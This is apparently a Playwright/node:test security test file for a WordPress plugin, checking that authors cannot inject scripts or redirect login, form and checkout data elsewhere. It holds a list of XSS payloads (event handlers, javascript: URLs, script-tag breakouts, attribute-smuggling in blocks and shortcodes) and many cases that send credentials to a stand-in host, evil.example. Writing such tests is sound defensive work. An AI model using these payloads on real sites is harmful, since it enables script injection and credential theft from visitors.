// Runs with npm run test:all: it installs WordPress.
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import type { Browser, Page } from 'playwright-core';
import { launch } from '../e2e/chromium.js';
import { isEverything } from '../engines/everything.js';
import { canvasOf, editPost, openAs, openPage, publishAs, storedContent } from './wordpress-person.js';
import { missing, startWordPress, type WordPressSite } from './wordpress-site.js';

// What an author must not be able to do with any tag, attribute, block, settings block or shortcode of the plugin: run a
// script, or receive what visitors type.

const isAsked = isEverything || process.env.WORDPRESS === '1';
const hit = 'window.hit=1';
const script = `</script><script>${hit}</script>`;
const evil = 'https://evil.example/take';

/** Content that runs a script where anything of it slips through. */
const scripts: Readonly<Record<string, string>> = {
  'a handler on a tag': `<site-gallery onclick="${hit}" onpointerover="${hit}" label="a"></site-gallery>`,
  'a handler in the data- form': `<div data-site-gallery data-onclick="${hit}" data-onpointerover="${hit}">a</div>`,
  'a script in a settings block': `<site-product><script type="application/json">{"product":{"name":"${script}"}}</script></site-product>`,
  'a script in data-settings': `<div data-site-map data-settings='{"label":"${script.replaceAll('<', '\\u003c')}","lat":1,"lng":1}'></div>`,
  'a script in a text': `<site-tooltip text="${script}"><a href="#a">a</a></site-tooltip>`,
  'HTML in a text that keeps HTML': `<cookie-banner text="<img src=x onerror=${hit}><a href='javascript:${hit}'>a</a>"></cookie-banner>`,
  'an embed code': `<site-embed html="<iframe srcdoc='<script>parent.${hit}</script>' src='javascript:parent.${hit}'></iframe>"></site-embed>`,
  'an address of a script': `<site-order-link url="javascript:${hit}" link-title="a"></site-order-link><div data-site-order-link data-url="java&#10;script:${hit}">a</div>`,
  'an image of a script': `<site-image source="javascript:${hit}" dimensions="1x1" alt="a"></site-image>`,
  'a held-back script': `<site-consent-gate><template><script>${hit}</script></template>a</site-consent-gate>`,
  'a block with a script': `<!-- wp:site-elements/tooltip {"text":"\\u003c/script\\u003e\\u003cscript\\u003e${hit}\\u003c/script\\u003e"} --><p>a</p><!-- /wp:site-elements/tooltip -->`,
  'a block that leaves its attribute': `<!-- wp:site-elements/gallery {"label":"a\\u0022 onclick=\\u0022${hit}","design":"grid\\u0022 onclick=\\u0022${hit}"} /-->`,
  'an attribute that no block has': `<!-- wp:site-elements/gallery {"onclick":"${hit}","label":"a"} /-->`,
  'an event with a link to a script': `<!-- wp:site-elements/events --><article><h3><a href="javascript:${hit}">a</a></h3><p><time datetime="2027-01-03T10:00">2027-01-03 10:00</time></p></article><!-- /wp:site-elements/events -->`,
  'an event with a script in its time': `<!-- wp:site-elements/events --><article><h3>a</h3><p><time datetime="2027-01-03T10:00">2027-01-03 10:00${script}</time></p></article><!-- /wp:site-elements/events -->`,
  'a product with a script for a SKU': `<!-- wp:site-elements/product {"price-cents":100} --><h3 data-product="title">a</h3><ul data-product-choices=""><li data-sku="&quot;&gt;&lt;script&gt;${hit}&lt;/script&gt;" data-stock="&quot; onclick=&quot;${hit}"><span data-choice="">a&lt;script&gt;${hit}&lt;/script&gt;</span></li></ul><!-- /wp:site-elements/product -->`,
  'a shortcode with a handler': `[site-gallery onclick="${hit}" label="a"]`,
  'a shortcode that leaves its attribute': `[site-tooltip text='a" onclick="${hit}']<a href="#a">a</a>[/site-tooltip]`,
  'a shortcode around a script': `[site-shape name="star"]<script>${hit}</script><img src="x" onerror="${hit}">a[/site-shape]`,
};

/** Content that sends input, visitors or styles to another host. */
const addresses: Readonly<Record<string, string>> = {
  'a tag': `<site-login endpoint="${evil}" redirect="${evil}">a</site-login>`,
  'a tag in capitals': `<SITE-LOGIN ENDPOINT="${evil}">a</SITE-LOGIN>`,
  'a spelling of frameworks': `<site-login forgoturl="${evil}">a</site-login>`,
  'the data- form': `<div data-site-login data-endpoint="${evil}" data-forgot-url='${evil}' data-registerurl=${evil}>a</div>`,
  'slashes in the place of blanks': `<div/data-site-login/data-endpoint="${evil}">a</div><site-login/endpoint=${evil}>a</site-login>`,
  'lines in the place of blanks': `<div\ndata-site-login\n\tdata-endpoint\n=\n"${evil}">a</div>`,
  'a key of a settings block in escapes': `<div data-site-login data-settings='{"\\u0065ndpoint":"${evil}"}'>a</div>`,
  'a tag with the data- form': `<site-login data-endpoint="${evil}">a</site-login>`,
  'the data- form in a link': `<a href="#a" data-site-checkout-button data-checkout-url="${evil}">a</a>`,
  'a settings block': `<div data-site-login data-settings='{"endpoint":"${evil}"}'>a</div>`,
  'a settings block of a content system': `<site-login data-block-json="{&quot;loginEndpoint&quot;:&quot;${evil}&quot;,&quot;logout-url&quot;:&quot;${evil}&quot;}">a</site-login>`,
  'a settings block within another': `<div data-site-login data-settings='{"login":{"endpoint":"${evil}"}}'>a</div>`,
  'a settings block that is no JSON': `<div data-site-login data-settings="{&amp;quot;endpoint&amp;quot;:&amp;quot;${evil}&amp;quot;}">a</div>`,
  'a block': `<!-- wp:site-elements/form {"action":"${evil}","endpoint":"${evil}"} /-->`,
  'a block within another': `<!-- wp:group --><div class="wp-block-group"><!-- wp:site-elements/fonts {"href":"${evil}"} /--></div><!-- /wp:group -->`,
  'a shortcode': `[site-login endpoint="${evil}" remember]`,
  'a shortcode with its name in capitals': `[site-login ENDPOINT=${evil}]`,
  'a shortcode with quotes in the wrong place': `[site-login a"endpoint="${evil}" b]`,
  'a shortcode in an attribute': `<a href="#a" title="[site-login endpoint='${evil}']">a</a>`,
  'a cart that goes elsewhere': `<site-cart checkout-url="${evil}"></site-cart><div data-site-cart-badge data-checkout-url="${evil}">a</div>`,
};

if (isAsked && missing().length === 0) {
  describe('an author of a WordPress', { timeout: 600_000 }, () => {
    let site: WordPressSite;
    let browser: Browser;
    let reader: Page;
    let administrator: Page;

    before(async () => {
      site = await startWordPress('dist/wordpress/site-elements');
      browser = await launch();
      reader = (await openPage(browser)).page;
      administrator = (await openAs(browser, site, 'administrator')).page;
      for (const page of [reader, administrator]) page.on('dialog', dialog => void dialog.dismiss());
    });
    after(async () => {
      await browser?.close();
      await site?.stop();
    });

    /** What has run, and what could run at a touch, in every frame of a page. */
    const running = async (page: Page): Promise<string[]> =>
      (
        await Promise.all(
          page
            .frames()
            .map(frame =>
              frame.evaluate(() => [
                ...('hit' in window ? ['a script has run'] : []),
                ...[...document.querySelectorAll('.entry-content *, body > [loading="eager"], body > [loading="eager"] *')].flatMap(
                  node => [
                    ...[...node.attributes]
                      .filter(
                        ({ name, value }) =>
                          (name.startsWith('on') && name in node) || /^\s*j\s*a\s*v\s*a\s*s\s*c\s*r\s*i\s*p\s*t\s*:/i.test(value),
                      )
                      .map(({ name, value }) => `${node.localName} ${name}=${value}`),
                    ...(node.matches('script:not([type="application/ld+json"])') ? [node.outerHTML] : []),
                  ],
                ),
              ]),
            ),
        )
      ).flat();

    /** Every element on the page has loaded, or has been left unchanged. */
    const settled = (page: Page) => page.waitForFunction(() => document.readyState === 'complete' && !document.querySelector(':not(:defined)'));

    for (const [title, content] of Object.entries(scripts)) {
      test(`runs no script by ${title}`, async () => {
        const address = publishAs(site, content, 'author');
        assert.doesNotMatch(storedContent(site, address), /<script/i);
        await reader.goto(site.url + address);
        await settled(reader);
        // every handler gets its event; no link is followed
        await reader.evaluate(() => {
          addEventListener('click', event => event.preventDefault());
          for (const node of document.querySelectorAll('.entry-content *'))
            for (const type of ['pointerover', 'click']) node.dispatchEvent(new Event(type, { bubbles: true, cancelable: true }));
        });
        assert.deepEqual(await running(reader), []);
      });
    }

    test('runs none in the editor of an administrator either, in its panel or in its previews', async () => {
      const address = publishAs(site, Object.values(scripts).filter(content => content.startsWith('<!--')).join('\n\n'), 'author');
      await editPost(site, administrator, address.replace(/\D/g, ''));
      const previews = (await canvasOf(administrator)).locator('iframe.site-elements-preview');
      await previews.first().waitFor({ state: 'attached' });
      for (const frame of await previews.all()) await frame.contentFrame().locator('body > :defined').first().waitFor({ state: 'attached' });
      assert.deepEqual(await running(administrator), []);
    });

    for (const [title, content] of Object.entries(addresses)) {
      test(`sends no visitor's input to another site by ${title}`, async () => {
        const address = publishAs(site, content, 'author');
        const page = await (await fetch(site.url + address)).text();
        assert.match(page, /entry-content/);
        assert.doesNotMatch(page, /evil\.example/);
      });
    }

    test('keeps the settings beside those, and addresses that are only displayed', () => {
      const stored = (content: string) => storedContent(site, publishAs(site, content, 'author'));
      assert.equal(stored(`<site-login endpoint="${evil}" remember="false" class="a">a</site-login>`), '<site-login remember="false" class="a">a</site-login>');
      assert.equal(
        stored('<site-product sku="a" price-cents="100" image="https://example.com/a.jpg">a</site-product>'),
        '<site-product sku="a" price-cents="100" image="https://example.com/a.jpg">a</site-product>',
      );
      assert.equal(stored(`[site-login endpoint="${evil}" remember="false"]`), '[site-login remember="false"]');
      assert.match(stored(`<div data-site-map data-settings='{"lat":1,"geocoder":"${evil}"}'>a</div>`), /data-settings="\{&quot;lat&quot;:1\}"/);
      assert.equal(
        stored('<!-- wp:site-elements/tooltip {"text":"Cups \\u0026 bowls"} --><p>a</p><!-- /wp:site-elements/tooltip -->'),
        '<!-- wp:site-elements/tooltip {"text":"Cups \\u0026 bowls"} --><p>a</p><!-- /wp:site-elements/tooltip -->',
      );
    });

    test('has an excerpt that is held to the same', () => {
      const excerpt = site.php(`
        wp_set_current_user( get_user_by( 'login', 'author' )->ID ); kses_init();
        $id = wp_insert_post( wp_slash( array( 'post_title' => 'a', 'post_excerpt' => '<div data-site-login data-endpoint="${evil}">a</div>' ) ) );
        echo get_post( $id )->post_excerpt;`);
      assert.equal(excerpt, '<div data-site-login>a</div>');
    });

    test('has less than an administrator, who may set those addresses', () => {
      for (const content of [addresses['a tag']!, addresses['a block']!, addresses['a shortcode']!])
        assert.match(storedContent(site, publishAs(site, content)), /evil\.example/);
    });
  });
}
